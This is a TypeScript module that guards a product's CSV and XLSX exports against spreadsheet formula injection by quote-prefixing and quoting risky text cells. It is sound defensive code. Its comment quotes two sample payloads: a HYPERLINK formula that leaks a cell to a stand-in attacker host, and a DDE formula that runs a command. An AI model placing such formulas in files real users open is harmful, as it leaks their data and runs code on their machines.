/**
 * Text cells of every CSV (and XLSX) the product writes: forecast, inventory plan, audit export.
 * A text that starts with = + - @, a tab or a CR is a formula to Excel and LibreOffice
 * (`=HYPERLINK("http://evil.example/?leak="&A1)`, `=cmd|"/c calc"!A1`), so a part number or site
 * from an upload could run when a planner opens the output. As OWASP recommends ("CSV Injection"),
 * such a text gets a leading single quote, which spreadsheets show as text, and its field is quoted.
 *
 * The prefix is reversible: a text that already starts with quotes before a trigger character gets
 * one more, so `readText(safeText(s)) === s` for every s (the job page reads outputs back by part).
 * Numbers never pass through here: a negative bound stays a number.
 */

/** Starts like a formula, after any quotes this module put in front. */
const FORMULA_START = /^'*[=+\-@\t\r]/;
/** A text safeText prefixed: one or more quotes, then a formula character. */
const PREFIXED = /^'+[=+\-@\t\r]/;

/** The text as a spreadsheet must see it: a formula-like text gets a leading `'`. */
export function safeText(s: string): string {
  return FORMULA_START.test(s) ? `'${s}` : s;
}

/** The inverse of safeText, for readers of our own outputs. */
export function readText(s: string): string {
  return PREFIXED.test(s) ? s.slice(1) : s;
}

/** RFC 4180 quoting: a field holding a comma, quote, CR/LF or leading/trailing space is quoted. */
export function csvQuote(s: string): string {
  return /[",\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** A TEXT cell of a CSV: neutralised, then quoted (always quoted when neutralised, as OWASP asks). */
export function csvText(s: string): string {
  const safe = safeText(s);
  return safe === s ? csvQuote(s) : `"${safe.replace(/"/g, '""')}"`;
}

/** One CSV line of text cells (no line break). */
export function csvTextLine(cells: readonly (string | null | undefined)[]): string {
  return cells.map((c) => csvText(c ?? '')).join(',');
}
